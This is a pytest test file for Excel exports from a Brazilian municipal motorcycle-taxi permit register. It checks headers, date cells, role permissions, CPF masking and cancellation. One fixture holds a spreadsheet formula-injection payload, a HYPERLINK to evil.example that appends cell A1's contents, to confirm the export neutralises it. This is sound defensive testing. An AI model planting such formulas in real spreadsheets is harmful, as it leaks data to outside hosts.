"""Exports from the database: every kind from seeded data, read back with openpyxl (title, headers, real
date cells, escaped formulas, masked CPF), roles, progress, cancellation that leaves no file."""

from __future__ import annotations

import re
import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from reports_factory import (  # type: ignore[import-not-found]
    holder,
    inspection,
    notice,
    organisation_member,
    waiting_list,
)
from tests_helpers import raises_code  # type: ignore[import-not-found]

from motodesk.exports import kinds as xk
from motodesk.rules.common import ServiceType
from motodesk.rules.fees import FeeAct
from motodesk.services import fees, reports
from motodesk.services.clock import local_today
from motodesk.services.context import AppContext
from motodesk.services.demo import seed_demo
from motodesk.services.errors import InvalidInputError, PermissionDeniedError
from motodesk.services.reports import EXPORTERS, ExportCancelled, export

EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"Clique aqui")'
SPECS = {"permits": xk.PERMITS, "people": xk.PEOPLE, "vehicles": xk.VEHICLES, "inspections": xk.INSPECTIONS,
         "infractions": xk.INFRACTIONS, "deadlines": xk.DEADLINES, "organisation-members": xk.ORGANISATION_MEMBERS,
         "quota-study": xk.QUOTA_STUDY, "permits-public": xk.PERMITS_TRANSPARENCY,
         "people-public": xk.PEOPLE_TRANSPARENCY, "fees": xk.FEES_COLLECTED}
CPF_ANYWHERE = re.compile(r"\d{3}\.\d{3}\.\d{3}-\d{2}")


@pytest.fixture
def register(supervisor: AppContext):  # noqa: ANN201
    """A small register with one of everything, and a holder whose name is a formula."""
    today = local_today()
    a = holder(supervisor, "Maria Aparecida Silva", ServiceType.MOTOTAXI,
               medical_issued=today - timedelta(days=355))
    b = holder(supervisor, EVIL, ServiceType.MOTOFRETE)
    c = holder(supervisor, "+55 Pedro Paulo Souza", ServiceType.MOTOBOY)
    inspection(supervisor, b.holder, status="failed", next_due=today + timedelta(days=20),
               failed_items=("Baú dentro dos limites do CONTRAN", "Retrovisores desobstruídos"))
    inspection(supervisor, a.holder, status="approved", failed_items=())
    notice(supervisor, a.holder, 1)
    notice(supervisor, c.holder, 2, decided=False)
    waiting_list(supervisor, ("Rafael Nunes Barbosa", "Sílvia Helena Prado"))
    organisation_member(supervisor, a.holder)
    fees.set_fee(supervisor, FeeAct.INSPECTION, "45,90", "Decreto nº 100/2026")  # one guia/DAM paid at the counter
    fees.record_payment(supervisor, FeeAct.INSPECTION, a.holder.vehicle_id, "DAM-1", today, "45,90")
    return a, b, c


@pytest.fixture
def out_dir(tmp_path: Path) -> Path:
    """A folder of its own (the test's SQLite database lives in tmp_path)."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def _read(path: Path, sheet: int = 0) -> tuple[openpyxl.worksheet.worksheet.Worksheet, list[list]]:
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[sheet]
    return ws, [[c.value for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize("kind", [k.key for k in EXPORTERS])
def test_every_kind_exports_with_title_headers_and_filter(register, supervisor: AppContext, out_dir: Path,
                                                          kind: str) -> None:  # noqa: ANN001
    out = out_dir / f"{kind}.xlsx"
    count = export(supervisor, kind, out)
    assert out.exists() and count >= 1
    ws, values = _read(out)
    spec = SPECS[kind]
    assert values[0][0].startswith(f"{spec.title} — exportado em ")
    assert values[0][0].endswith("por Supervisor (supervisor)")
    assert tuple(values[1][: len(spec.columns)]) == spec.headers
    assert ws.freeze_panes == "A3"
    assert ws.auto_filter.ref.startswith("A2:")
    assert len(values) - 2 == (6 if kind == "quota-study" else count)
    assert [p.name for p in out_dir.iterdir()] == [out.name]  # no temporary file left beside it


def test_permits_register_reads_back_typed(register, supervisor: AppContext, out_dir: Path) -> None:  # noqa: ANN001
    a, b, _c = register
    out = out_dir / "permissoes.xlsx"
    assert export(supervisor, "permits", out) == 3
    ws, values = _read(out)
    rows = {r[0]: r for r in values[2:]}
    row = rows[a.holder.permit_number]
    assert row[1] == "Mototáxi" and row[2] == "Maria Aparecida Silva"
    cpf = a.holder.cpf
    assert row[3] == f"{cpf[:3]}.{cpf[3:6]}.{cpf[6:9]}-{cpf[9:]}"
    assert row[4] == a.holder.plate and row[5] == "Em vigor"
    issued = ws.cell(row=[r[0] for r in values].index(a.holder.permit_number) + 1, column=7)
    assert isinstance(issued.value, datetime) and issued.is_date  # a real date cell, not text
    assert issued.number_format == "DD/MM/YYYY"
    assert issued.value.date() == local_today() - timedelta(days=100)
    # The formula-looking name is text: shown with its neutralising apostrophe, never a formula.
    evil = rows[b.holder.permit_number]
    assert evil[2] == "'" + EVIL
    cell = ws.cell(row=[r[0] for r in values].index(b.holder.permit_number) + 1, column=3)
    assert cell.data_type == "s"
    with zipfile.ZipFile(out) as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    plus = next(r for r in values[2:] if r[2] and "Pedro Paulo" in r[2])
    assert plus[2] == "'+55 Pedro Paulo Souza"


def test_people_inspections_infractions_and_quota(register, supervisor: AppContext, out_dir: Path) -> None:  # noqa: ANN001
    a, b, c = register
    export(supervisor, "people", out_dir / "p.xlsx")
    _ws, people = _read(out_dir / "p.xlsx")
    maria = next(r for r in people[2:] if r[0] == "Maria Aparecida Silva")
    assert maria[2] == "Titular" and maria[3] == "Mototáxi" and maria[4] == a.holder.permit_number
    assert maria[5] == datetime(1988, 4, 2) and maria[7] == "34999990000"
    assert maria[12] == "AB" and maria[14] is not None  # CNH categories and expiry

    export(supervisor, "inspections", out_dir / "v.xlsx")
    _ws, insp = _read(out_dir / "v.xlsx")
    failed = next(r for r in insp[2:] if r[7] == "Reprovada")
    assert failed[1] == b.holder.plate and failed[2] == b.holder.permit_number and failed[3] == "Moto-frete"
    assert failed[8] == "Baú dentro dos limites do CONTRAN; Retrovisores desobstruídos"
    assert isinstance(failed[0], datetime) and failed[9] == datetime.combine(
        local_today() + timedelta(days=20), datetime.min.time())

    export(supervisor, "infractions", out_dir / "i.xlsx")
    ws, notices = _read(out_dir / "i.xlsx")
    decided = next(r for r in notices[2:] if r[3] == "Maria Aparecida Silva")
    assert decided[7] == "Art. 30, Grupo 2, VI" and decided[8] == "sonegar troco"
    assert decided[9] == "Média" and decided[10] == "Multa" and decided[11] == 2 and decided[12] == 200
    assert decided[14] == "Sim" and decided[15] == "Decidido"
    open_ = next(r for r in notices[2:] if r[3] == "+55 Pedro Paulo Souza" or r[3] == "'+55 Pedro Paulo Souza")
    assert open_[10] is None and open_[15] == "Em defesa"

    export(supervisor, "quota-study", out_dir / "q.xlsx")
    wb = openpyxl.load_workbook(out_dir / "q.xlsx")
    summary = {r[0]: r[1] for r in wb.worksheets[0].iter_rows(min_row=3, values_only=True)}
    assert summary["População"] == 89_826 and summary["Ano de referência da população"] == 2022
    assert summary["Vagas de mototáxi (Art. 10, I)"] == 44
    assert summary["Permissões de mototáxi em vigor"] == 1 and summary["Vagas abertas"] == 43
    assert summary["Cadastro de reserva da licitação"] == 2
    waiting = list(wb.worksheets[1].iter_rows(min_row=3, values_only=True))
    assert [(r[0], r[1]) for r in waiting] == [(1, "Rafael Nunes Barbosa"), (2, "Sílvia Helena Prado")]
    assert all(r[2].startswith("***.") and r[2].endswith("-**") for r in waiting)

    export(supervisor, "deadlines", out_dir / "d.xlsx")
    _ws, due = _read(out_dir / "d.xlsx")
    medical = next(r for r in due[2:] if r[2] == "Renovação do atestado médico")
    assert medical[1] == 10 and medical[6] == "Maria Aparecida Silva" and medical[8] == "A vencer"


def test_transparency_files_mask_every_cpf(register, supervisor: AppContext, ctx: AppContext,
                                           out_dir: Path) -> None:  # noqa: ANN001
    a, _b, _c = register
    for kind in ("permits-public", "people-public"):
        out = out_dir / f"{kind}.xlsx"
        export(ctx, kind, out)  # an administrator may too
        _ws, values = _read(out)
        cpfs = [r[3 if kind == "permits-public" else 1] for r in values[2:]]
        assert len(cpfs) == 3
        cpf = a.holder.cpf
        assert f"***.{cpf[3:6]}.{cpf[6:9]}-**" in cpfs
        with zipfile.ZipFile(out) as zf:
            for name in zf.namelist():
                text = zf.read(name).decode("utf-8", "replace")
                assert not CPF_ANYWHERE.search(text), name
                assert cpf not in text
        assert "34999990000" not in str(values) and "1988" not in str(values)


def test_roles_and_bad_targets(register, clerk: AppContext, inspector: AppContext, supervisor: AppContext,
                               out_dir: Path) -> None:  # noqa: ANN001
    for who in (clerk, inspector):
        with raises_code(PermissionDeniedError, "permission_denied"):
            export(who, "permits", out_dir / "x.xlsx")
    with raises_code(InvalidInputError, "export.unknown_kind"):
        export(supervisor, "pessoas", out_dir / "x.xlsx")
    with raises_code(InvalidInputError, "export.not_xlsx"):
        export(supervisor, "permits", out_dir / "x.csv")
    with raises_code(InvalidInputError, "export.folder_missing"):
        export(supervisor, "permits", out_dir / "nada" / "x.xlsx")
    assert list(out_dir.iterdir()) == []


def test_progress_and_cancel_leave_no_half_written_file(register, supervisor: AppContext,
                                                        out_dir: Path) -> None:  # noqa: ANN001
    seen: list[tuple[int, int]] = []
    out = out_dir / "pessoas.xlsx"
    n = export(supervisor, "people", out, progress=lambda done, total: seen.append((done, total)))
    assert seen and seen[-1] == (n, n) and all(d <= t for d, t in seen)
    before = out.read_bytes()

    asked = []

    def cancel() -> bool:
        asked.append(1)
        return len(asked) >= 2  # the user presses Cancelar while the rows are being written

    with pytest.raises(ExportCancelled):
        export(supervisor, "people", out, cancel=cancel)
    assert out.read_bytes() == before  # the previous file is untouched
    fresh = out_dir / "novo.xlsx"
    with pytest.raises(ExportCancelled):
        export(supervisor, "permits", fresh, cancel=lambda: True)
    assert not fresh.exists()
    assert sorted(p.name for p in out_dir.iterdir()) == ["pessoas.xlsx"]


def test_every_kind_from_the_demo_register(ctx: AppContext, out_dir: Path) -> None:
    seed_demo(ctx, 120, today=date.today())
    for kind in SPECS:
        out = out_dir / f"{kind}.xlsx"
        n = export(ctx, kind, out)
        ws, values = _read(out)
        if kind != "quota-study":
            assert len(values) - 2 == n, kind
        assert n > 0 or kind in ("organisation-members", "fees"), kind  # the demo charges no fee (defaults: zero)
    assert reports.suggested_name("people", date(2026, 3, 2)) == "pessoas-2026-03-02.xlsx"


def test_the_infractions_export_shows_art_32_apart_from_the_art_33_groups(supervisor: AppContext,
                                                                           out_dir: Path) -> None:
    from datetime import UTC

    from motodesk.services import enforcement
    from motodesk.services.enforcement import NoticeInput, OffenderKind

    created = enforcement.create_notice(supervisor, NoticeInput(
        "32", datetime.now(UTC) - timedelta(hours=1), "Rodoviária", OffenderKind.UNREGISTERED,
        offender_name="Fulano de Tal", plate="QWE1A23", description="Transportava passageiro sem permissão."))
    export(supervisor, "infractions", out_dir / "i32.xlsx")
    _ws, rows = _read(out_dir / "i32.xlsx")
    line = next(r for r in rows[2:] if r[0] == created.number)
    assert line[7] == "Art. 32" and line[9] == reports.UNLICENSED_LABEL == "Sem permissão (Art. 32)"
